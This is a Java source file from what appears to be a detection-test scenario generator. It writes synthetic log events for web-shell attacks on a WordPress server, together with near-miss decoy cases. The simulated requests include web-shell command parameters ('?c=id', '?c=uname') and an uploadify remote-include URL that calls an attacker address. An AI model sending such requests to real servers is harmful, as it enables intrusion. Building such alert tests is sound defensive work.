package id.kentongan.scenario.attack;

import id.kentongan.scenario.alert.Files;
import id.kentongan.scenario.alert.Ids;
import id.kentongan.scenario.alert.Rule;
import id.kentongan.scenario.alert.Web;
import id.kentongan.scenario.office.Addresses;
import id.kentongan.scenario.office.Agent;
import id.kentongan.scenario.office.Office;
import java.time.Instant;
import java.util.List;
import java.util.Random;

/**
 * An upload, a new script under the web root within 10 minutes, a request of that very file within 60 minutes, all on
 * one machine.
 */
final class WebShells {
    private static final String KIND = "web-shell";
    private static final String ROOT = "/var/www/html";
    private static final String FOLDER = "/wp-content/uploads/2026/11/";

    private final Office office;
    private final Addresses addresses;
    private final Random random;

    WebShells(Office office, Addresses addresses, Random random) {
        this.office = office;
        this.addresses = addresses;
        this.random = random;
    }

    List<Planted> on(Slots day) {
        Agent quiet = office.named("web-ppid");
        return List.of(
                shell(office.named("web-dinkes"), day.at(3), "php", false),
                shell(office.named("web-dinkes"), day.at(15), "phtml", true),
                picture(quiet, day.at(7)),
                otherFile(quiet, day.at(12)),
                uploadTooLate(quiet, day.at(20)));
    }

    private Planted shell(Agent agent, Instant start, String extension, boolean uploadify) {
        String ip = addresses.attacker();
        String file = FOLDER + stem() + "." + extension;
        Script script = new Script(start, random);
        if (uploadify) {
            String url = "/js/uploadify/uploadify.php?src=http://" + ip + "/a.php";
            script.add(Web.get(script.now(), agent, Rule.UPLOADIFY, ip, url, 200));
        } else {
            upload(script, agent, ip);
        }
        script.wait(1, 400).add(Files.added(script.now(), agent, ROOT + file, "www-data"));
        script.wait(20, 2400).add(Web.get(script.now(), agent, Rule.SCRIPT_IN_UPLOADS, ip, file + "?c=id", 200));
        script.wait(5, 60).add(Web.get(script.now(), agent, Rule.SCRIPT_IN_UPLOADS, ip, file + "?c=uname", 200));
        return script.seenByIds(agent, Ids.Signature.WEB_SHELL, ip, 80)
                .attack(
                        KIND,
                        agent,
                        ip,
                        ExpectedRule.WEB_SHELL,
                        "upload, new script " + file + ", and that script called");
    }

    private Planted picture(Agent agent, Instant start) {
        String ip = addresses.attacker();
        Script script = new Script(start, random);
        upload(script, agent, ip);
        String file = FOLDER + stem() + ".jpg";
        script.wait(1, 60).add(Files.added(script.now(), agent, ROOT + file, "www-data"));
        return script.nearMiss(KIND, agent, ip, "the new file is a picture");
    }

    private Planted otherFile(Agent agent, Instant start) {
        String ip = addresses.attacker();
        Script script = new Script(start, random);
        upload(script, agent, ip);
        script.wait(1, 300).add(Files.added(script.now(), agent, ROOT + FOLDER + stem() + ".php", "www-data"));
        String other = FOLDER + stem() + "-lain.php";
        script.wait(20, 1200).add(Web.get(script.now(), agent, Rule.SCRIPT_IN_UPLOADS, ip, other, 200));
        return script.nearMiss(KIND, agent, ip, "the script that is called is another one");
    }

    private Planted uploadTooLate(Agent agent, Instant start) {
        String ip = addresses.attacker();
        String file = FOLDER + stem() + ".php";
        Script script = new Script(start, random);
        script.add(Files.added(script.now(), agent, ROOT + file, "www-data")).wait(20, 200);
        upload(script, agent, ip);
        script.wait(20, 600).add(Web.get(script.now(), agent, Rule.SCRIPT_IN_UPLOADS, ip, file, 200));
        return script.nearMiss(KIND, agent, ip, "the file was there before the upload");
    }

    private static void upload(Script script, Agent agent, String ip) {
        String url = "/wp-content/plugins/galeri/upload.php";
        script.add(Web.request(script.now(), agent, Rule.UPLOAD, ip, "POST", url, 200, Web.BROWSER));
    }

    private String stem() {
        return "img" + Integer.toHexString(0x1000_0000 + random.nextInt(0x6fff_ffff));
    }
}
